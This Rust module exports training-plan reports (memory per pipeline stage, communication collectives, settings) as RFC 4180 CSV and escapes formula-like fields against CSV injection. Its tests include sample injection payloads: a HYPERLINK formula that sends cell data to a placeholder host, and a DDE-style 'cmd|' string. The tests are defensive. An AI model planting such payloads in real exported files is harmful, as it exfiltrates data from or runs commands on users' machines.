//! Tables for spreadsheets: bare numbers, one header line, fields quoted where necessary (RFC 4180).

use super::Report;
use shardscope_plan::Setting;
use std::borrow::Cow;

/// The memory of every stage. Unit: byte.
#[must_use]
pub fn memory_csv(report: &Report) -> String {
    let mut out = String::from(
        "pipeline_rank,parameters,gradients,optimizer,activations,temporaries,peak_allocated,framework,\
         peak_reserved,between_steps,capacity,fits,verdict,at\r\n",
    );
    for rank in &report.memory.ranks {
        let totals = &rank.totals;
        let beside = [totals.between_steps, report.memory.capacity];
        let mut fields = vec![rank.pipeline_rank.to_string()];
        // The RL engine's own columns, in the header's order.
        for bytes in totals.columns().into_iter().chain(beside) {
            fields.push(bytes.get().to_string());
        }
        fields.push(rank.fits.to_string());
        let verdict = totals.verdict(report.memory.capacity, report.memory.headroom);
        fields.push(verdict.name().to_owned());
        fields.push(rank.at.to_owned());
        row(&mut out, &fields);
    }
    out
}

/// Every kind of message. Sizes in bytes, calls of the busiest stage's ranks.
#[must_use]
pub fn communication_csv(report: &Report) -> String {
    let mut out = String::from(
        "dimension,name,tensor,collective,where,shape,dtype,bytes_per_call,calls_per_micro_batch,\
         calls_per_iteration,group,group_size,link,overlapped\r\n",
    );
    for dimension in &report.traffic.dimensions {
        for of in &dimension.operations {
            let shape: Vec<String> = of.shape.iter().map(ToString::to_string).collect();
            let fields = [
                dimension.parallelism.name().to_owned(),
                of.name.to_owned(),
                of.tensor.to_owned(),
                of.collective.name().to_owned(),
                of.place.words().to_owned(),
                shape.join("x"),
                of.dtype.to_owned(),
                of.bytes().get().to_string(),
                of.most_calls_per_micro_batch().to_string(),
                of.most_calls().to_string(),
                of.group.name().to_owned(),
                of.ranks.to_string(),
                of.link.name().to_owned(),
                of.overlapped.to_string(),
            ];
            row(&mut out, &fields);
        }
    }
    out
}

/// Every setting that has a value, with where it comes from.
#[must_use]
pub fn settings_csv(settings: &[Setting]) -> String {
    let mut out = String::from("name,value,origin,flag,note\r\n");
    for setting in settings {
        let value = setting.value.written();
        // Most settings are unset, and a table of empty cells helps nobody.
        if value.is_empty() {
            continue;
        }
        let flag = setting.flag.clone().unwrap_or_default();
        let note = setting.note.clone().unwrap_or_default();
        row(&mut out, &[setting.name().to_owned(), value, setting.origin.name().to_owned(), flag, note]);
    }
    out
}

/// `field` as text that no spreadsheet executes: anything that begins like a formula and is not a number gets a
/// leading apostrophe (OWASP, "CSV Injection"). Values are often a stranger's.
fn inert(field: &str) -> Cow<'_, str> {
    let begins = field
        .starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}']);
    // Negative numbers begin like formulas and must stay numbers.
    let number = field.parse::<f64>().is_ok_and(f64::is_finite);
    // Before quoting: the apostrophe belongs to the field's text.
    if begins && !number { Cow::Owned(format!("'{field}")) } else { Cow::Borrowed(field) }
}

fn row(out: &mut String, fields: &[String]) {
    for (index, field) in fields.iter().enumerate() {
        if index > 0 {
            out.push(',');
        }
        let text = inert(field);
        if text.contains([',', '"', '\n', '\r', '\t']) {
            out.push('"');
            out.push_str(&text.replace('"', "\"\""));
            out.push('"');
        } else {
            out.push_str(&text);
        }
    }
    out.push_str("\r\n");
}

#[cfg(test)]
mod tests {
    use super::row;

    #[test]
    fn fields_are_quoted_where_they_must_be() {
        let mut out = String::new();
        row(&mut out, &["a".into(), "b,c".into(), "say \"x\"".into(), String::new()]);
        assert_eq!(out, "a,\"b,c\",\"say \"\"x\"\"\",\r\n");
    }

    #[test]
    fn what_a_spreadsheet_would_run_is_text() {
        let of = |field: &str| {
            let mut out = String::new();
            row(&mut out, &[field.to_owned()]);
            out.trim_end_matches("\r\n").to_owned()
        };
        assert_eq!(of("=HYPERLINK(\"http://x/?\"&A1)"), "\"'=HYPERLINK(\"\"http://x/?\"\"&A1)\"");
        assert_eq!(of("@SUM(1)"), "'@SUM(1)");
        assert_eq!(of("-2+3+cmd|x"), "'-2+3+cmd|x");
        assert_eq!(of("+x"), "'+x");
        assert_eq!(of("--use-flash-attn"), "'--use-flash-attn");
        assert_eq!(of("\t=1"), "\"'\t=1\"");
        assert_eq!(of("\r=1"), "\"'\r=1\"");
        assert_eq!(
            (of("-2.5"), of("+3"), of("1e9"), of("-inf")),
            ("-2.5".into(), "+3".into(), "1e9".into(), "'-inf".into())
        );
        assert_eq!(of("a=b"), "a=b");
    }
}
